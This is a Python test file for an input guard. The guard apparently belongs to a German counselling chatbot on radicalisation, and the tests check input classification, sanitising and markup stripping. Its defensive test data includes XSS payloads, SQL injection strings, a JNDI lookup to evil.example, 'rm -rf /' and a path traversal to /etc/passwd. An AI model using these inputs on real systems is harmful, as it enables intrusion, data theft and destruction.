"""bot.input.guard: sanitising, the bad-input verdict and markup stripping."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.input.guard import (
    MAX_MESSAGE_CHARS,
    InputIssue,
    classify_input,
    sanitize,
    strip_markup,
)

# --- classify_input: one block per kind --------------------------------------------------

ISSUES = {
    "empty": [None, "", " ", "\n\t ", "???", "...", "!!!", "- - -", "„“", "\u200b"],
    "emoji_only": [
        "👍",
        "🙂🙂🙂",
        "😢 😢",
        "🙏🏽",
        "👨‍👩‍👦",
        "🇩🇪",
        ":)",
        ":-(",
        ";)",
        "<3",
        "❤️",
        "xD",
    ],
    "markup": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "Hallo <b>Welt</b>",
        "javascript:alert(document.cookie)",
        "<iframe src='https://example.org'></iframe>",
        "<svg/onload=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href='x' onclick='steal()'>klick</a>",
        "< script >alert(1)",
    ],
    "injection": [
        "'; DROP TABLE users; --",
        "1 OR 1=1",
        "admin' OR '1'='1",
        "x' UNION SELECT password FROM users",
        "UNION ALL SELECT NULL, NULL",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "{% for x in range(10) %}",
        "; rm -rf /",
        "../../../etc/passwd",
        "1; SELECT * FROM referrals",
        "admin'--",
        "SLEEP(5)",
    ],
    "language_en": [
        "Hello, my son is becoming radical, what can I do?",
        "help me please",
        "I am worried about my brother",
        "Do you have a hotline in English?",
        "My daughter wants to go to Syria",
        "Can someone talk to me?",
    ],
    "language_tr": [
        "Merhaba, oğlum hakkında yardım istiyorum",
        "Oğlum radikalleşiyor, ne yapmalıyım?",
        "Türkçe konuşabilir misiniz?",
        "Kızım çok değişti, endişeliyim",
        "İstanbul'da oğlum var ve çok korkuyorum",
        "yardim lutfen oglum camiye gidiyor",
    ],
    "language_ar": [
        "ابني يتطرف ماذا أفعل",
        "مرحبا، هل تتكلمون العربية؟",
        "أنا قلقة على ابنتي",
        "السلام عليكم ابني سافر",
    ],
}
CASES = [(text, kind) for kind, texts in ISSUES.items() for text in texts]


@pytest.mark.parametrize(("text", "kind"), CASES)
def test_issue_kinds(text: str | None, kind: str) -> None:
    issue = classify_input(text)
    assert issue is not None, f"{text!r}: expected {kind}, got None"
    assert issue.kind == kind
    assert text is None or not text or text not in issue.detail


def test_too_long_uses_the_cap_and_a_custom_cap() -> None:
    assert classify_input("Hallo " * 166) is None  # 996 characters
    assert classify_input("Hallo " * 200) == InputIssue("too_long", f"over_{MAX_MESSAGE_CHARS}")
    assert classify_input("Mein Sohn ist weg", max_chars=10) == InputIssue("too_long", "over_10")
    assert classify_input("Mein Sohn ist weg", max_chars=100) is None
    assert classify_input("x" * 1000) is None


# --- classify_input: normal German text --------------------------------------------------

GERMAN = [
    "ja",
    "nein",
    "Köln",
    "IMAG?",
    "okay danke",
    "ok",
    "Hallo",
    "Danke!",
    "Hilfe",
    "Essen",
    "Velbert, bitte",
    "vielleicht",
    "weiß nicht",
    "Was ist Salafismus?",
    "Mein Sohn hat sich verändert",
    "Gibt es eine Hotline oder einen Online-Chat?",
    "Ist der Chat anonym?",
    "Ich möchte lieber online chatten",
    "Die Hotline war okay, aber ich hätte gern einen Termin",
    "Sorry, ich hab mich vertippt",
    "Er schaut den ganzen Tag TikTok und YouTube",
    "Er folgt einem Influencer auf Instagram",
    "Das ist Fake News, sagt er",
    "Er hat sein Social-Media-Profil gelöscht",
    "Er hat nur noch Content von Predigern auf dem Handy",
    "Kurzes Update: er ist wieder zu Hause",
    "Meine Tochter Ayşe und ihr Freund Doğan",
    "Ayşe Doğan",
    "Hab ne Frage",
    "Mein Sohn sagt immer I am the real Muslim",
    "nach dem Abi will er nach Istanbul",
    "www.wegweiser.nrw.de",
    "Er sagt ständig inschallah und alhamdulillah",
    "Er findet Musik haram",
    "Er isst nur noch halal",
    "Was ist der Unterschied zwischen Dschihad und Terror?",
    "Ich <3 meinen Sohn, aber er macht mir Angst",
    "danke 👍",
    "Mein Sohn 😢 redet nicht mehr mit uns",
    "Er ist 16.",
    "0800 111 0 111",
    "110",
    "Termin am 12.5. um 14 Uhr?",
    "z. B. Bart, Kleidung, neue Freunde",
    "Er sagt: „Ihr seid alle Kuffar“",
    "Die Lehrerin meinte, er sei im Unterricht auffällig",
    "Er war früher so ein fröhliches Kind :)",
    "Im Chat hat er Videos geteilt, die mir Angst machen",
    "Mein Mann sagt, das ist nur eine Phase, okay?",
    "Er hört Rap, vor allem deutschen",
    "Ich bin Lehrerin, eine Schülerin trägt seit kurzem Niqab",
    "Ich arbeite im Jugendzentrum in Gelsenkirchen",
    "Sie hat Angst vor dem Team im Jugendamt",
    "Gibt es einen Flyer auf Türkisch für meine Schwiegermutter?",
    "Kann ich auch auf Arabisch beraten werden?",
    "Er sagt, das Leben hier ist dunya und zählt nicht",
    "Er nennt sich jetzt Abu Bakr",
    "Mein Sohn war in der Moschee in der Keupstraße",
    "Er hat gesagt: and the winner is ... und dann gelacht",
    "Meine Nachbarin (Türkin) macht sich auch Sorgen um ihren Sohn",
    "Er wurde von einem Imam aus Duisburg angesprochen",
    "a < b und c > d, das ist doch logisch",
    "Noten: 1 = sehr gut, 2 = gut",
    "Er sagt 'Ich gehe' -- und dann war er weg",
    "Er hat gesagt {er kommt nicht} oder so ähnlich",
]


def test_enough_german_cases() -> None:
    assert len(GERMAN) >= 60


@pytest.mark.parametrize("text", GERMAN)
def test_normal_german_text_is_no_issue(text: str) -> None:
    assert classify_input(text) is None


# --- sanitize ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (None, ""),
        ("", ""),
        ("  Hallo  ", "Hallo"),
        ("a\x00b\x07c", "abc"),
        ("Zeile 1\r\nZeile 2", "Zeile 1\nZeile 2"),
        ("a\t\tb", "a b"),
        ("a \n\n\n b", "a\nb"),
        ("Mu\u0308nchen", "München"),  # decomposed umlaut -> NFC
        ("un\u200bsicht\u00adbar", "unsichtbar"),  # zero-width space, soft hyphen
        ("links\u202erechts", "linksrechts"),  # bidi override
        ("👨\u200d👩\u200d👦", "👨\u200d👩\u200d👦"),  # joiner inside an emoji is kept
    ],
)
def test_sanitize_examples(raw: str | None, expected: str) -> None:
    assert sanitize(raw) == expected


def test_sanitize_caps_at_a_word_boundary() -> None:
    text = "Mein Sohn redet nur noch über Religion " * 40
    out = sanitize(text, max_chars=50)
    assert len(out) <= 50
    assert text.startswith(out)
    assert not out.endswith(" ")
    assert out.split()[-1] in text.split()  # no word cut in half
    assert sanitize("x" * 2000) == "x" * MAX_MESSAGE_CHARS  # one long word: hard cut
    with pytest.raises(ValueError):
        sanitize("abc", max_chars=0)


# --- strip_markup -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Mein <b>Sohn</b> ist weg", "Mein Sohn ist weg"),
        ("Hilfe<script>alert(1)</script> bitte", "Hilfe bitte"),
        ("<img src=x onerror=alert(1)>Mein Sohn", "Mein Sohn"),
        ("klick <a href='javascript:alert(1)'>hier</a>", "klick hier"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Hallo", "Hallo"),
        ("<scr<script>ipt>alert(1)</script>Text", "<scr Text"),  # no script survives
        ("Ich <3 meinen Sohn", "Ich <3 meinen Sohn"),
        ("javascript:alert(1) Mein Sohn", "Mein Sohn"),
    ],
)
def test_strip_markup(raw: str, expected: str) -> None:
    assert strip_markup(raw) == expected


def test_stripped_markup_is_no_longer_markup() -> None:
    for text in ISSUES["markup"]:
        stripped = strip_markup(text)
        issue = classify_input(stripped)
        assert issue is None or issue.kind != "markup", (text, stripped)


# --- properties ---------------------------------------------------------------------------

_FORBIDDEN = {"Cc", "Cf", "Cs"}


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.none(), st.text(max_size=3000)), st.integers(min_value=1, max_value=1500))
def test_sanitize_properties(text: str | None, cap: int) -> None:
    out = sanitize(text, max_chars=cap)
    assert len(out) <= cap
    assert out == out.strip()
    assert all(
        ch == "\n" or ch == "\u200d" or unicodedata.category(ch) not in _FORBIDDEN for ch in out
    )
    assert "\t" not in out and "  " not in out
    assert unicodedata.is_normalized("NFC", out)
    assert sanitize(out, max_chars=cap) == out


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.none(), st.text(max_size=2000)))
def test_classify_and_strip_never_raise(text: str | None) -> None:
    issue = classify_input(text)
    assert issue is None or issue.kind in {*ISSUES, "too_long"}
    if text is not None:
        stripped = strip_markup(text)
        assert not re.search(r"<\s*/?\s*[a-z!][^<>]*>", stripped, re.IGNORECASE)  # no tag left
        assert not re.search(r"\b(?:javascript|vbscript)\s*:", stripped, re.IGNORECASE)
        assert stripped == stripped.strip() and "  " not in stripped
